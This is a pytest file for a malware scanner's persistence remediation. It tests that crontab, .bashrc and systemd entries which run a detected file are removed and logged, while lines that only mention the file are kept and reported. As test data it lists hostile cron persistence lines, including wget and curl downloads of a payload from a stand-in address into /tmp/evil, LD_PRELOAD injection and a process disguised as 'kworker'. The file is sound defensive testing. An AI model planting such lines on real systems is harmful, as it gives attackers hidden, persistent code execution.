"""Persistence clean-up removes only lines that would run the detected file, and says what it left and did.

Lines that merely mention the detected path are left alone and reported; the scan log records each
persistence edit with its backup; a detected file with further hard links is reported as such.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from conftest import EICAR, MINER, MINER_RULES

from scanner.remediation.persistence import find_persistence

EVIL = "/tmp/evil"
INERT = b"inert test sample, not a program\n"

RUNS = [
    f"* * * * * {EVIL}",
    f"* * * * * nohup {EVIL} >/dev/null 2>&1 &",
    f"* * * * * timeout 60 {EVIL} --quiet",
    f"* * * * * env -u HOME FOO=1 {EVIL}",
    f"* * * * * setsid -f sudo -u bob nice -n 5 {EVIL}",
    f"* * * * * /bin/bash {EVIL}",
    f"* * * * * python3 -u {EVIL} arg",
    f"* * * * * perl {EVIL}",
    f"* * * * * php8.1 {EVIL}",
    f"* * * * * node {EVIL}",
    f"* * * * * ruby {EVIL}",
    f"* * * * * sh -c 'sleep 5; {EVIL}'",
    f'* * * * * bash -ec "test -x {EVIL} && exec {EVIL}"',
    f"* * * * * [ -x {EVIL} ] || wget -q -O {EVIL} http://198.51.100.9/e",
    f"* * * * * curl -fsSL -o{EVIL} http://198.51.100.9/e; chmod +x /tmp/other",
    "* * * * * cd /tmp && ./evil",
    f"* * * * * echo $({EVIL})",
    f"* * * * * LD_PRELOAD={EVIL} /usr/bin/true",
    f"* * * * * busybox sh {EVIL}",
    f"* * * * * flock -n /run/lock/x timeout -s KILL 5m exec -a kworker {EVIL}",
    f"* * * * * su - bob -c '{EVIL} --daemon'",
    f"* * * * * find /tmp -name x | xargs -0 -n 1 {EVIL}",
]

MENTIONS = [
    f"0 1 * * * /usr/bin/backup --exclude {EVIL} /home",
    f'0 2 * * * echo "{EVIL} is gone"',
    f"0 3 * * * rm -f {EVIL}",
    f"0 4 * * * [ -e {EVIL} ] && logger found",
    f"0 5 * * * python3 -c 'import os; os.remove(\"{EVIL}\")'",
    f"0 6 * * * ls -l {EVIL} > /var/log/evil.txt",
    f"0 7 * * * command -v {EVIL} >/dev/null && logger present",
    f"0 8 * * * sha256sum {EVIL} | mail -s hash root",
]


def machine(root: Path, crontab: str, bashrc: str = "") -> None:
    (root / "tmp").mkdir(parents=True)
    (root / "tmp" / "evil").write_bytes(INERT)
    (root / "etc").mkdir()
    (root / "etc" / "passwd").write_text("alice:x:1000:1000::/home/alice:/bin/bash\n")
    spool = root / "var" / "spool" / "cron" / "crontabs"
    spool.mkdir(parents=True)
    (spool / "alice").write_text(crontab)
    if bashrc:
        (root / "home" / "alice").mkdir(parents=True)
        (root / "home" / "alice" / ".bashrc").write_text(bashrc)


@pytest.mark.parametrize("line", RUNS)
def test_a_line_that_runs_the_detected_file_is_removed(tmp_path: Path, line: str) -> None:
    machine(tmp_path, line + "\n")
    result = find_persistence(tmp_path, {str(tmp_path) + EVIL})
    (finding,) = result.findings
    assert finding.lines == (1,) and result.mentions == ()


@pytest.mark.parametrize("line", MENTIONS)
def test_a_line_that_only_mentions_the_detected_file_is_left_and_reported(tmp_path: Path, line: str) -> None:
    machine(tmp_path, line + "\n")
    result = find_persistence(tmp_path, {str(tmp_path) + EVIL})
    assert result.findings == ()
    (mention,) = result.mentions
    assert mention.lines == (1,) and mention.detected == EVIL
    assert mention.describe().endswith(f"mentions the detected file {EVIL}: left alone")


def test_shell_rc_lines_follow_the_same_rule(tmp_path: Path) -> None:
    machine(
        tmp_path,
        "",
        f"alias clean='rm -f {EVIL}'\nexport NOTE={EVIL}\n[ -x {EVIL} ] && {EVIL} &\n. {EVIL}\n",
    )
    result = find_persistence(tmp_path, {str(tmp_path) + EVIL})
    (finding,) = result.findings
    assert finding.location.path == "/home/alice/.bashrc" and finding.lines == (3, 4)
    assert [m.lines for m in result.mentions] == [(1,), (2,)]


# --------------------------------------------------------------------------- through the CLI


def cron_machine(root: Path) -> Path:
    """A miner under /tmp started by a user crontab and a system unit; other lines only name it."""
    miner = root / "tmp" / "kworkerd"
    miner.parent.mkdir(parents=True)
    miner.write_bytes(MINER)
    (root / "etc").mkdir()
    (root / "etc" / "passwd").write_text("alice:x:1000:1000::/home/alice:/bin/bash\n")
    spool = root / "var" / "spool" / "cron" / "crontabs"
    spool.mkdir(parents=True)
    (spool / "alice").write_text(
        "*/5 * * * * /tmp/kworkerd\n"
        "0 1 * * * /usr/bin/backup --exclude /tmp/kworkerd /home\n"
        ' 0 2 * * * echo "/tmp/kworkerd is gone"\n'
    )
    units = root / "etc" / "systemd" / "system"
    (units / "multi-user.target.wants").mkdir(parents=True)
    (units / "kworkerd.service").write_text(
        "[Unit]\nDescription=worker\n\n[Service]\nExecStart=/tmp/kworkerd\n\n[Install]\nWantedBy=multi-user.target\n"
    )
    (units / "multi-user.target.wants" / "kworkerd.service").symlink_to("/etc/systemd/system/kworkerd.service")
    return spool / "alice"


def test_remediation_keeps_mentions_reports_them_and_logs_every_edit(cli, tmp_path, scanner_home):
    root = tmp_path / "sysroot"
    crontab = cron_machine(root)
    rules = tmp_path / "rules.yar"
    rules.write_text(MINER_RULES)
    common = (
        "scan",
        "--quick",
        "--sysroot",
        root,
        "--rules",
        rules,
        "--no-default-rules",
        "--action",
        "quarantine",
        "--action-min-severity",
        "low",
    )

    plan = json.loads(cli(*common, "--dry-run", "--format", "json").stdout)["remediation"]
    left = [n for n in plan["notes"] if "left alone" in n]
    assert len(left) == 2 and all("mentions the detected file /tmp/kworkerd: left alone" in n for n in left)

    res = cli(*common)
    assert res.exit_code == 1, res.stdout + res.stderr
    assert "mentions the detected file /tmp/kworkerd: left alone" in res.stdout
    assert crontab.read_text() == (
        '0 1 * * * /usr/bin/backup --exclude /tmp/kworkerd /home\n 0 2 * * * echo "/tmp/kworkerd is gone"\n'
    )
    # scan ids order by the second only: pick the real run, not the dry run of the same second
    (rec,) = [r for r in json.loads(cli("history", "--format", "json").stdout) if not r["dry_run"]]
    cleaned = [o for o in rec["outcomes"] if o["step"] == "clean persistence"]
    assert cleaned and all(o["ok"] for o in cleaned)

    log = (scanner_home / "logs" / "scanner.log").read_text()
    lines = [ln for ln in log.splitlines() if ln.startswith("  persistence: ")]
    assert len(lines) == len(cleaned)
    for o in cleaned:
        (line,) = [ln for ln in lines if o["description"] in ln]
        assert o["message"] in line and "done" in line
        assert all(b in line for b in o["backup_ids"])
    crontab_line = next(ln for ln in lines if "crontabs/alice" in ln)
    assert "remove line 1 from" in crontab_line and "backup none" not in crontab_line
    unit_line = next(ln for ln in lines if "disable unit kworkerd.service" in ln)
    assert "links removed: /etc/systemd/system/multi-user.target.wants/kworkerd.service" in unit_line


@pytest.mark.parametrize("action", ["quarantine", "remove"])
def test_a_detection_with_another_hard_link_says_so(cli, tmp_path, eicar_rule, action):
    d = tmp_path / "data"
    d.mkdir()
    f = d / "eicar.com"
    f.write_bytes(EICAR)
    other = tmp_path / "elsewhere"
    other.mkdir()
    os.link(f, other / "keep.com")  # outside the scanned tree: the content stays reachable there
    common = (
        "scan",
        d,
        "--rules",
        eicar_rule,
        "--no-default-rules",
        "--action",
        action,
        "--action-min-severity",
        "low",
    )
    rep = json.loads(cli(*common, "--format", "json").stdout)
    assert not f.exists() and (other / "keep.com").read_bytes() == EICAR
    (o,) = rep["remediation"]["outcomes"]
    assert o["other_links"] == 1
    assert "another name still holds this content: 1 other link(s)" in o["message"]
    assert "another name still holds this content" in rep["detections"][0]["action"]
    # The text report says it too.
    os.link(other / "keep.com", f)
    res = cli(*common)
    assert "another name still holds this content: 1 other link(s)" in res.stdout
    assert res.exit_code == 1


def test_a_detection_without_other_links_says_nothing_of_them(cli, tmp_path, eicar_rule):
    d = tmp_path / "data"
    d.mkdir()
    (d / "eicar.com").write_bytes(EICAR)
    res = cli(
        "scan", d, "--rules", eicar_rule, "--no-default-rules", "--action", "quarantine", "--action-min-severity", "low"
    )
    assert res.exit_code == 1 and "another name" not in res.stdout
